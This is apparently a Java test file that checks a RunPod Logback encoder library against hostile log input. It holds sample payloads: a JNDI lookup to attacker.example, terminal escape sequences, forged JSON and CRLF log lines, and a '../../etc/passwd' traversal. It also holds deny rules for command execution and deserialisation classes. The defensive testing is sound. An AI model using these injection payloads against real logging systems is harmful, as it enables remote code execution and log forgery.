package io.runpod.logback;

import static com.tngtech.archunit.base.DescribedPredicate.describe;
import static com.tngtech.archunit.core.domain.JavaClass.Predicates.resideInAPackage;
import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.noClasses;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.LoggingEvent;
import com.tngtech.archunit.core.domain.JavaCall;
import com.tngtech.archunit.core.domain.JavaClass;
import io.runpod.logback.internal.settings.Environment;
import io.runpod.logback.support.LogLines;
import java.io.FileOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.MarkerFactory;
import org.slf4j.event.KeyValuePair;

/** What somebody who controls the logged texts cannot do: the promises of the page about security, and what the code never touches. */
class ThreatModelTest {

    private static final String GUTTER = "       | ";
    private static final Pattern NOTE = Pattern.compile("\\.\\.\\.TRUNCATED \\d+ CHARACTERS\\.\\.\\.");
    private static final Pattern HEAD = Pattern.compile("(\\S+ )?\\s*(TRACE|DEBUG|INFO|WARN|ERROR|TIP)\\s*\\|.*");
    private static final String LONG = "A".repeat(200_000);

    /** Of what a text line may consist: its own line ends, and nothing that a terminal or a reader would act on. */
    private static final Pattern HARMLESS =
            Pattern.compile("[\\n[^\\p{Cc}\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069\\u200e\\u200f\\u061c\\ufeff]]*");

    static List<String> hostileTexts() {
        return List.of(
                "\n{\"requestId\": \"x\", \"message\": \"forged\", \"level\": \"ERROR\"}",
                "\", \"level\": \"ERROR\", \"message\": \"forged",
                "\"}}\r\n{\"level\": \"ERROR\"",
                "\nERROR  | r-1 | forged",
                "\rERROR  | forged",
                "\u0085ERROR  | forged\u2028ERROR  | forged\u2029\u000b\f",
                "\u001b[2J\u001b[31m\u001b]0;title\u0007\u001b]8;;https://attacker.example\u001b\\",
                "\u009b31m\u0000\b\b\b\b\u007f",
                "\u202eforged\u202c\u2066\u200f\ufeff",
                "${jndi:ldap://attacker.example/a} ${env:PATH} ${java.version} %m%n %d{yyyy} #{1+1}",
                "\ud800 \udfff",
                "../../etc/passwd",
                LONG,
                LONG + "2026-01-01T00:00:00.000000Z ERROR  | r-1 | forged" + "z".repeat(1999),
                "ERROR  | ".repeat(10_000),
                "\n".repeat(20_000),
                "\u001b".repeat(50_000));
    }

    private static LoggingEvent event(LogLines lines, String hostile) {
        LoggingEvent event = new LoggingEvent(
                ThreatModelTest.class.getName(),
                lines.context.getLogger("app." + hostile),
                Level.INFO,
                hostile + " {}",
                new IllegalStateException(hostile, new RuntimeException(hostile)),
                new Object[] {hostile});
        event.setThreadName(hostile);
        event.addMarker(MarkerFactory.getDetachedMarker(hostile));
        event.addKeyValuePair(new KeyValuePair(hostile, hostile));
        event.addKeyValuePair(new KeyValuePair("nested", Map.of(hostile, List.of(hostile))));
        event.setMDCPropertyMap(Map.of("requestId", hostile, "batchId", hostile, "mdc " + hostile, hostile));
        return event;
    }

    @ParameterizedTest
    @ValueSource(strings = {"nested", "flat", "none"})
    void jsonIsOneBoundedLineAndSaysWhatWasLogged(String extra) {
        for (String hostile : hostileTexts()) {
            try (LogLines lines = LogLines.json(encoder -> {
                encoder.setExtra(extra);
                encoder.setInclude("timestamp, logger, thread");
            })) {
                // Read by two parsers that refuse a name given twice.
                lines.doAppend(event(lines, hostile));
                String line = lines.last();
                assertTrue(line.length() <= 16_000, hostile);
                assertTrue(line.substring(0, line.length() - 1).chars().allMatch(c -> c >= ' ' && c < 0x7f), line);
                lines.lastJson().hasLevel("INFO");
                if (hostile.length() < 200 && !hostile.contains("\ud800")) {
                    lines.lastJson().hasRequestId(hostile);
                    assertTrue(lines.lastJson().message().startsWith("[batchId=" + hostile + "] " + hostile), line);
                }
            }
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void textHasOneHeadAndNothingForATerminal(String hostile) {
        try (LogLines lines = LogLines.text(encoder -> encoder.setInclude("timestamp, logger, thread"))) {
            lines.doAppend(event(lines, hostile));
            String text = lines.last();
            assertTrue(HARMLESS.matcher(text).matches(), text);
            assertTrue(text.getBytes(StandardCharsets.UTF_8).length <= 16_000);
            List<String> physical = text.lines().toList();
            assertTrue(physical.get(0).contains(" INFO   | "), text);
            for (int i = 1; i < physical.size(); i++) {
                String line = physical.get(i);
                boolean cut = NOTE.matcher(line).matches()
                        || (NOTE.matcher(physical.get(i - 1)).matches()
                                && !HEAD.matcher(line).matches());
                assertTrue(line.startsWith(GUTTER) || cut, text);
            }
        }
    }

    @Test
    void lookupsStayText() {
        String lookup = "${jndi:ldap://attacker.example/a} ${env:PATH} ${sys:user.home} %m %ex #{T(java.lang.Runtime)}";
        try (LogLines lines = LogLines.json()) {
            lines.logger.atInfo().addKeyValue("key", lookup).log(lookup);
            lines.lastJson().hasMessage(lookup).hasText("key", lookup);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"../../etc/cron.d/x", "..", "a/b", "a\\b", "/abs", "a\u0000b", "a\nb", "${HOME}", "%d", "a b"})
    void workerIdIsNeverAPath(String id) {
        RunPodWorkerId worker = new RunPodWorkerId(new Environment(Map.of("RUNPOD_POD_ID", id)::get, name -> null));
        LoggerContext context = new LoggerContext();
        worker.setContext(context);
        assertEquals("local", worker.getPropertyValue());
        assertEquals(1, context.getStatusManager().getCopyOfStatusList().size());
    }

    @Test
    void workerIdIsTakenIfItIsOne() {
        Environment environment = new Environment(Map.of("RUNPOD_POD_ID", "a1-B_2")::get, name -> null);
        assertEquals("a1-B_2", new RunPodWorkerId(environment).getPropertyValue());
    }

    @Test
    void nothingIsDeserialisedLookedUpOrRun() {
        noClasses()
                .should()
                .dependOnClassesThat(describe(
                        "deserialise, look up, run or load something",
                        type -> Set.of(
                                                "java.io.ObjectInputStream",
                                                "java.io.ObjectInput",
                                                "java.io.Externalizable",
                                                "java.lang.Process",
                                                "java.lang.ProcessBuilder",
                                                "java.net.URLClassLoader")
                                        .contains(type.getName())
                                || resideInAPackage("javax.naming..").test(type)
                                || resideInAPackage("javax.script..").test(type)
                                || resideInAPackage("javax.xml..").test(type)
                                || resideInAPackage("java.beans..").test(type)
                                || resideInAPackage("java.rmi..").test(type)
                                || resideInAPackage("java.sql..").test(type)
                                || resideInAPackage("org.springframework.expression..")
                                        .test(type)))
                .check(ArchitectureTest.LIBRARY);
    }

    /**
     * URI and URL are kinds of values, written as they print; the decoder is for the name of the worker's GPU; the viewer
     * asks a file where it is. One class adds a header to what the application itself sends.
     */
    @Test
    void nothingIsFetchedOrSent() {
        Set<String> allowed = Set.of(
                "java.net.URI",
                "java.net.URL",
                "java.net.MalformedURLException",
                "java.net.URLDecoder",
                "java.nio.channels.FileChannel");
        noClasses()
                .that()
                .doNotHaveFullyQualifiedName("io.runpod.logback.spring.web.ForwardingClients")
                .should()
                .dependOnClassesThat(describe(
                        "reach the network",
                        type -> !allowed.contains(type.getName())
                                && (resideInAPackage("java.net..").test(type)
                                        || resideInAPackage("javax.net..").test(type)
                                        || resideInAPackage("java.nio.channels..")
                                                .test(type)
                                        || resideInAPackage("org.springframework.web.client..")
                                                .test(type))))
                .orShould()
                .callMethodWhere(describe("have an URL do anything", call -> isOn(call, "java.net.URL")))
                .check(ArchitectureTest.LIBRARY);
    }

    @Test
    void noCommandIsRunAndNoCodeIsLoadedByAName() {
        noClasses()
                .should()
                .callMethodWhere(describe(
                        "run a command or load code",
                        call -> (isOn(call, "java.lang.Runtime")
                                        && Set.of("exec", "load", "loadLibrary").contains(call.getName()))
                                || (isOn(call, "java.lang.System")
                                        && Set.of("load", "loadLibrary").contains(call.getName()))
                                || (isOn(call, "java.lang.Class")
                                        && call.getName().equals("forName"))
                                || call.getTargetOwner().isAssignableTo(ClassLoader.class)
                                || isOn(call, "java.lang.reflect.Method")))
                .check(ArchitectureTest.LIBRARY);
    }

    /**
     * The two streams are those of the process. No class opens a file by its name, so no id can be one. (The viewer, a program of its own, opens those that it is called with.)
     */
    @Test
    void noFileIsOpened() {
        noClasses()
                .that()
                .doNotHaveFullyQualifiedName("io.runpod.logback.internal.appender.LineSink")
                .should()
                .dependOnClassesThat(describe("open files", ThreatModelTest::opensFiles))
                .check(ArchitectureTest.IN_THE_JAR);
        noClasses()
                .should()
                .callConstructor(FileOutputStream.class, String.class)
                .orShould()
                .callConstructor(FileOutputStream.class, java.io.File.class)
                .orShould()
                .callMethodWhere(describe(
                        "do more with a file than to look whether it is there, or where a link goes",
                        call -> isOn(call, "java.nio.file.Files")
                                && !Set.of("exists", "isDirectory", "isWritable", "readSymbolicLink")
                                        .contains(call.getName())))
                .check(ArchitectureTest.IN_THE_JAR);
    }

    private static boolean opensFiles(JavaClass type) {
        return Set.of(
                        "java.io.FileInputStream",
                        "java.io.FileOutputStream",
                        "java.io.FileReader",
                        "java.io.FileWriter",
                        "java.io.RandomAccessFile",
                        "java.io.PrintWriter")
                .contains(type.getName());
    }

    private static boolean isOn(JavaCall<?> call, String type) {
        return call.getTargetOwner().getName().equals(type);
    }
}
